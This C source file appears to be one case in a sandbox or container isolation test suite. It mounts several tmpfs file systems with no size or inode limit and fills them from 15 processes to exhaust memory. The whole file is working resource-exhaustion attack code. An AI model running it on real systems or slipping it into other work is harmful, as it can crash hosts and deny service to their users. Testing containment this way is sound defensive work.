/* Fills memory file systems of its own, which have no size (tmpfs(5), mount(2)). */
#include "common/attack.h"

static void fill(void) {
    static char block[65536];
    for (int n = 0; n < 4; n++) {
        char place[64], path[80];
        snprintf(place, sizeof place, "%s", own("own"));
        mkdir(place, 0777);
        TRY(mount("tmpfs", place, "tmpfs", 0, "size=100%,nr_inodes=0"));
        snprintf(path, sizeof path, "%s/fill", place);
        int fd = open(path, O_WRONLY | O_CREAT, 0666);
        long bytes = 0;
        for (ssize_t len; fd >= 0 && (len = write(fd, block, sizeof block)) > 0; bytes += len) {
        }
        printf("%ld bytes\n", bytes);
    }
}

static void attempt(void) {
    apart(fill, 15);
    hold();
}
